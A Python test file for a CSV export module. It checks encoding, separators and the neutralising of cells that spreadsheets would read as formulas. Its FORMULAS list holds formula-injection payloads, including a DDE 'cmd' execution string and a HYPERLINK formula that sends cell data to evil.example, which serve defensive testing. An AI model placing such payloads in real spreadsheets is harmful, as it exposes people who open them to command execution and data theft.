"""Tables for spreadsheets, read back by the standard library and by a real spreadsheet program."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from consentui.i18n import LANGUAGES
from consentui.report.formats.csv import _HARMLESS, _TAKEN_FOR_A_FORMULA, Separator, inert, render, separator_in
from consentui.text import clean
from tests.journal.strategies import texts
from tests.report.formats.test_markdown import HOSTILE as MARKDOWN
from tests.report.spreadsheet import Seen, cells

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "-5",
    "@SUM(A1)",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(A1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1',
    "'=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "\tplain",
    "'tis a text",
]
"""Texts that a spreadsheet may take for a formula, or for the mark of a text."""


def read(text: str) -> list[list[str]]:
    """The rows as the standard library reads them."""
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))


# The format


def test_a_table_is_rfc_4180_with_a_byte_order_mark() -> None:
    made = render(("name", "n"), [("é, è", 1), ('say "hi"', 2), ("two\nlines", 3)])
    assert made == '\ufeffname,n\r\n"é, è",1\r\n"say ""hi""",2\r\n"two\nlines",3\r\n'
    assert made.encode().startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize(("separator", "mark"), [("comma", ","), ("semicolon", ";"), ("tab", "\t")])
def test_what_stands_between_cells_is_chosen(separator: Separator, mark: str) -> None:
    made = render(("name", "n"), [(f"a{mark}b", 1), ("c", 2)], separator)
    assert made == f'\ufeffname{mark}n\r\n"a{mark}b"{mark}1\r\nc{mark}2\r\n'


def test_where_decimals_have_commas_spreadsheets_expect_semicolons() -> None:
    expected = {"en": "comma", "fr": "semicolon", "de": "semicolon"}
    assert {language: separator_in(language) for language in LANGUAGES} == expected


def test_a_table_without_rows_has_its_columns() -> None:
    assert read(render(("a", "b"), [])) == [["a", "b"]]


def test_numbers_and_days_stay_what_they_are_and_nothing_is_empty() -> None:
    assert read(render(("a", "b", "c"), [(-5, date(2026, 1, 2), None)]))[1] == ["-5", "2026-01-02", ""]


def test_yes_and_no_are_what_they_are_in_json_and_no_texts() -> None:
    assert read(render(("a", "b", "c"), [(True, False, "true")]))[1] == ["true", "false", "'true"]


def test_a_row_of_another_length_is_refused() -> None:
    with pytest.raises(ValueError, match="shorter"):
        render(("a", "b"), [("only one",)])


# Formulas


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_be_a_formula_is_marked_as_a_text(text: str) -> None:
    assert inert(text).startswith("'")


LONG = [
    "1234567890123456",
    "0612345678",
    "1e5",
    "12E34",
    "1/2",
    "1-2",
    "3.14",
    "3,14",
    "12:30",
    "1 000",
    "5 %",
    "€5",
    ".5",
    "TRUE",
    "vrai",
]
"""Texts that a spreadsheet would convert to numbers, dates, times or booleans."""


@pytest.mark.parametrize("text", LONG)
def test_digits_stay_digits(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["plain", "a=b", "1 à 2", "4K", "2fa", "true story", "CU-2026-001", "x-7k3f", "a@b.example", "é", ""]
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert inert(text) == text


@pytest.mark.parametrize(
    ("text", "marked"),
    [
        ("note;=1+1", "note;'=1+1"),
        ("note; \t=1+1;", "note;' \t'=1+1;"),
        ('note;"=1+1"', 'note;\'"=1+1"'),
        ("note\t=1+1", "note\t'=1+1"),
        ("note,=1+1", "note,'=1+1"),
        ("note, -1", "note,' -1"),
        ("note\n=1+1", "note\n'=1+1"),
        ("\t=1+1", "'\t'=1+1"),
        ("a; b\nc\td", "a; b\nc\td"),
    ],
)
def test_where_something_else_divides_cells_no_formula_begins_either(text: str, marked: str) -> None:
    assert inert(text) == marked


@given(text=texts)
def test_any_text_is_read_back_as_it_was_made_inert(text: str) -> None:
    assert read(render(("a", "b"), [(text, "end")]))[1:] == [[inert(text), "end"]]


@given(text=texts.filter(lambda text: not set(text) & set(",;\t\r\n")))
def test_the_mark_can_be_taken_off_again(text: str) -> None:
    assert inert(text).removeprefix("'") == clean(text)


@given(
    text=st.text(st.sampled_from("=+-@＝'\" ,;\t\n\u200bab1"), max_size=12),
    separator=st.sampled_from(["", ",", ";", "\t", "\n"]),
)
def test_no_mix_of_marks_begins_a_formula_however_the_line_is_divided(text: str, separator: str) -> None:
    for cell in inert(text).split(separator) if separator else [inert(text)]:
        assert cell.startswith("'") or cell.lstrip(" \t\n'\"\u200b")[:1] not in tuple("=+-@＝")


# A real spreadsheet


@pytest.mark.spreadsheet
def test_a_spreadsheet_makes_a_formula_of_what_is_not_marked(tmp_path: Path) -> None:
    assert cells("a,b\r\n=1+1,-5\r\n", tmp_path)[1, 0].kind == "formula"


@pytest.mark.spreadsheet
def test_a_spreadsheet_reads_every_text_as_a_text_unchanged(tmp_path: Path) -> None:
    texts = [*FORMULAS, *MARKDOWN, "a, b", 'say "hi"', "Réglages", "日本語"]
    found = cells(render(("text", "end"), [(text, "end") for text in texts]), tmp_path)
    expected = [inert(text).removeprefix("'") for text in texts]
    assert [found[row, 0] for row in range(1, len(texts) + 1)] == [Seen("text", text) for text in expected]
    assert {found[row, 1] for row in range(1, len(texts) + 1)} == {Seen("text", "end")}
    assert len(found) == 2 * len(texts) + 2


@pytest.mark.spreadsheet
def test_a_spreadsheet_reads_numbers_days_and_accents(tmp_path: Path) -> None:
    found = cells(render(("compté", "jour", "vide"), [(-5, date(2026, 1, 2), None)]), tmp_path)
    assert found[0, 0] == Seen("text", "compté")
    assert (found[1, 0], found[1, 1]) == (Seen("number", "-5"), Seen("number", "46024"))
    assert (1, 2) not in found


@pytest.mark.spreadsheet
@pytest.mark.parametrize(("separator", "locale"), [("comma", "C.UTF-8"), ("semicolon", "fr_FR.UTF-8")])
def test_a_spreadsheet_leaves_digits_as_they_are(tmp_path: Path, separator: Separator, locale: str) -> None:
    rows = [(text, "a, b; c", 7) for text in LONG]
    found = cells(render(("text", "more", "n"), rows, separator), tmp_path, locale)
    assert [found[row, 0] for row in range(1, len(LONG) + 1)] == [Seen("text", text) for text in LONG]
    assert {found[row, 1] for row in range(1, len(LONG) + 1)} == {Seen("text", "a, b; c")}
    assert {found[row, 2] for row in range(1, len(LONG) + 1)} == {Seen("number", "7")}


@pytest.mark.spreadsheet
def test_a_spreadsheet_rewrites_digits_that_are_not_marked(tmp_path: Path) -> None:
    found = cells("a,b\r\n0612345678,1e5\r\n", tmp_path)
    assert {found[1, 0].kind, found[1, 1].kind} == {"number"}


@given(text=st.from_regex(_HARMLESS, fullmatch=True))
def test_what_is_told_harmless_at_a_glance_is_so(text: str) -> None:
    assert _TAKEN_FOR_A_FORMULA.sub("'", clean(text)) == text
